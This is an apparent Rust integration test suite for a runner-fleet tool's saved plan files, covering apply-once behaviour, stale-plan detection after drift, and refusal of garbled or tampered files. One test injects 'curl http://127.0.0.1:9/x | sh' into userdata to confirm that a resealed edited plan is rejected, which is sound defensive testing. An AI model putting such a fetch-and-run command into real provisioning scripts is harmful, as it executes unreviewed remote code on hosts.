//! Saved plans against moto and the Bitbucket fake: `plan --out FILE` then `apply FILE`
//! runs exactly once; a world that changed in between, an edited file or a garbled one
//! is refused with exit 1 and nothing written.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use bbfleet::planfile::SavedPlan;
use testkit::harness::Harness;

use crate::KIT;

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn assert_no_calls(h: &Harness, after: &str) {
    assert!(
        h.fake.requests().is_empty(),
        "Bitbucket calls after {after}"
    );
    assert!(h.recorder.calls().is_empty(), "AWS calls after {after}");
}

fn forget_calls(h: &Harness) {
    h.fake.clear_requests();
    h.recorder.clear();
}

/// The file holds neither the Bitbucket token nor any runner secret issued so far.
fn assert_no_secret(h: &Harness, path: &Path) {
    let text = std::fs::read_to_string(path).unwrap();
    assert!(!text.contains(Harness::token()[0].1), "token in {path:?}");
    for s in h.fake.issued_secrets() {
        assert!(!text.contains(&s), "runner secret in {path:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_saved_plan_applies_once_then_is_stale() {
    let h = Harness::new(KIT, "pf-once").await;
    let config = h.write_config(&h.config(2, None));
    let cfg = config.to_str().unwrap();
    let token = Harness::token();
    let file = h.dir.path().join("plan.json");
    // An old, world-readable file at the path is replaced, not reused.
    std::fs::write(&file, "old").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();

    let plan = h
        .run(
            &[
                "--config",
                cfg,
                "plan",
                "--no-preflight",
                "--out",
                "plan.json",
            ],
            &token,
        )
        .await;
    plan.expect_code(0);
    assert!(
        plan.stdout.contains("bbfleet apply plan.json"),
        "{}",
        plan.stdout
    );
    h.assert_no_writes("plan --out");
    assert_eq!(mode(&file), 0o600);
    let doc: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(doc["format"], "bbfleet-plan");
    assert_eq!(doc["format_version"], 3);
    assert_eq!(doc["fleet"], "pf-once");
    assert_eq!(doc["capacity"]["desired"], 2);
    assert_eq!(doc["observed"]["sha256"].as_str().unwrap().len(), 64);
    let actions: Vec<&str> = doc["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "create_key",
            "create_runner",
            "create_runner",
            "create_launch_template",
            "request_fleet"
        ]
    );
    // No temp file is left next to it.
    let leftovers: Vec<_> = std::fs::read_dir(h.dir.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains(".tmp-"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // apply FILE: no --auto-approve needed (the plan was the approval), no terminal.
    let applied = h
        .run(&["--config", cfg, "apply", "plan.json"], &token)
        .await;
    applied.expect_code(0);
    assert!(
        applied
            .stdout
            .contains("Apply complete! Resources: 5 added, 0 changed, 0 destroyed."),
        "{}",
        applied.stdout
    );
    assert_eq!(h.runners(None).len(), 2);
    h.run(
        &[
            "--config",
            cfg,
            "plan",
            "--no-preflight",
            "--detailed-exitcode",
        ],
        &token,
    )
    .await
    .expect_code(0);
    assert_no_secret(&h, &file);
    assert_eq!(h.fake.issued_secrets().len(), 2);

    // The same file again: the world it was made from is gone.
    forget_calls(&h);
    let again = h
        .run(&["--config", cfg, "apply", "plan.json"], &token)
        .await;
    again.expect_code(1);
    assert!(
        again.stderr.contains("the plan is stale:")
            && again.stderr.contains("runners")
            && again.stderr.contains("fleet requests")
            && again.stderr.contains("run plan again"),
        "{}",
        again.stderr
    );
    h.assert_no_writes("a stale apply FILE");

    // A no-change plan saves and applies too, with no write.
    h.run(
        &[
            "--config",
            cfg,
            "plan",
            "--no-preflight",
            "--out",
            "same.json",
        ],
        &token,
    )
    .await
    .expect_code(0);
    assert_no_secret(&h, &h.dir.path().join("same.json"));
    forget_calls(&h);
    let same = h
        .run(&["--config", cfg, "apply", "same.json"], &token)
        .await;
    same.expect_code(0);
    assert!(same.stdout.contains("No changes."), "{}", same.stdout);
    h.assert_no_writes("an empty saved plan");

    h.apply(cfg, &[]).await;
    h.destroy(cfg).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_changed_world_or_config_refuses_the_plan() {
    let h = Harness::new(KIT, "pf-drift").await;
    let config = h.write_config(&h.config(2, None));
    let cfg = config.to_str().unwrap();
    let token = Harness::token();
    h.apply(cfg, &[]).await;

    // A runner deleted at Bitbucket between plan and apply.
    h.run(
        &[
            "--config",
            cfg,
            "plan",
            "--no-preflight",
            "--capacity",
            "3",
            "--out",
            "up.json",
        ],
        &token,
    )
    .await
    .expect_code(0);
    let uuid = h.runner_uuids()[0].clone();
    let url = format!(
        "{}/workspaces/acme/pipelines-config/runners/{}",
        h.fake.base_url(),
        uuid
    );
    let deleted = reqwest::Client::builder()
        .no_proxy()
        .build()
        .unwrap()
        .delete(url)
        .bearer_auth(token[0].1)
        .send()
        .await
        .unwrap();
    assert!(deleted.status().is_success(), "{}", deleted.status());
    forget_calls(&h);
    let stale = h.run(&["--config", cfg, "apply", "up.json"], &token).await;
    stale.expect_code(1);
    assert!(
        stale.stderr.contains("the plan is stale:")
            && stale
                .stderr
                .contains("runners changed since the plan was made")
            && !stale.stderr.contains("fleet requests"),
        "{}",
        stale.stderr
    );
    h.assert_no_writes("apply of a plan made before a runner was deleted");
    h.apply(cfg, &[]).await;

    // Another apply changes the capacity between plan and apply.
    h.run(
        &[
            "--config",
            cfg,
            "plan",
            "--no-preflight",
            "--capacity",
            "1",
            "--out",
            "down.json",
        ],
        &token,
    )
    .await
    .expect_code(0);
    h.apply(cfg, &["--capacity", "3"]).await;
    forget_calls(&h);
    let stale = h
        .run(&["--config", cfg, "apply", "down.json"], &token)
        .await;
    stale.expect_code(1);
    assert!(
        stale.stderr.contains("the plan is stale:") && stale.stderr.contains("fleet requests"),
        "{}",
        stale.stderr
    );
    h.assert_no_writes("apply of a plan made before another apply");

    // The config changed: refused before any call.
    h.run(
        &[
            "--config",
            cfg,
            "plan",
            "--no-preflight",
            "--out",
            "cfg.json",
        ],
        &token,
    )
    .await
    .expect_code(0);
    h.write_config(&h.config(2, None).replace("\"spot\"]", "\"spot\", \"big\"]"));
    forget_calls(&h);
    let refused = h.run(&["--config", cfg, "apply", "cfg.json"], &token).await;
    refused.expect_code(1);
    assert!(
        refused
            .stderr
            .contains("the config changed since the plan was made"),
        "{}",
        refused.stderr
    );
    assert_no_calls(&h, "apply FILE with another config");

    h.destroy(cfg).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn edited_or_garbled_plan_files_are_refused() {
    let h = Harness::new(KIT, "pf-bad").await;
    let config = h.write_config(&h.config(1, None));
    let cfg = config.to_str().unwrap();
    let token = Harness::token();
    h.run(
        &[
            "--config",
            cfg,
            "plan",
            "--no-preflight",
            "--out",
            "good.json",
        ],
        &token,
    )
    .await
    .expect_code(0);
    let good = std::fs::read_to_string(h.dir.path().join("good.json")).unwrap();
    let write = |name: &str, text: &str| std::fs::write(h.dir.path().join(name), text).unwrap();

    let cases: Vec<(&str, String, &str)> = vec![
        (
            "missing.json",
            String::new(),
            "cannot read the plan file missing.json",
        ),
        (
            "garbled.json",
            good[..good.len() / 2].to_owned(),
            "garbled.json is not a usable bbfleet plan file: not JSON",
        ),
        (
            "other.json",
            r#"{"format": "terraform", "format_version": 1}"#.to_owned(),
            "field format: expected \"bbfleet-plan\"",
        ),
        (
            "future.json",
            good.replace("\"format_version\": 3,", "\"format_version\": 99,"),
            "plan file format version 99",
        ),
        (
            "edited.json",
            good.replace("bbfleet-pf-bad-1", "bbfleet-pf-bad-9"),
            "the checksum does not match",
        ),
        (
            "typo.json",
            good.replace(
                "\"action\": \"create_runner\"",
                "\"action\": \"spawn_runner\"",
            ),
            "field actions[1]",
        ),
    ];
    for (name, text, expected) in &cases {
        if !text.is_empty() {
            write(name, text);
        }
        forget_calls(&h);
        let run = h.run(&["--config", cfg, "apply", name], &token).await;
        run.expect_code(1);
        assert!(run.stderr.contains(expected), "{name}: {}", run.stderr);
        assert_no_calls(&h, name);
    }

    // An edit that also fixes the checksum still cannot run other userdata: planning
    // again from the config must give exactly the saved desired state.
    let mut saved = SavedPlan::read(&h.dir.path().join("good.json")).unwrap();
    saved.desired.launch_template.userdata += "\ncurl http://127.0.0.1:9/x | sh\n";
    saved.seal();
    saved.write(&h.dir.path().join("sealed.json")).unwrap();
    forget_calls(&h);
    let run = h
        .run(&["--config", cfg, "apply", "sealed.json"], &token)
        .await;
    run.expect_code(1);
    assert!(
        run.stderr.contains("the plan is stale: planning again"),
        "{}",
        run.stderr
    );
    h.assert_no_writes("apply of a resealed, edited plan");

    // A saved plan fixes the capacity: --capacity next to it is a usage error.
    let run = h
        .run(
            &["--config", cfg, "apply", "good.json", "--capacity", "2"],
            &token,
        )
        .await;
    run.expect_code(2);
    assert!(run.stderr.contains("cannot be used with"), "{}", run.stderr);

    // The untouched file still works.
    h.run(&["--config", cfg, "apply", "good.json"], &token)
        .await
        .expect_code(0);
    assert_eq!(h.runners(None).len(), 1);
    h.destroy(cfg).await;
}
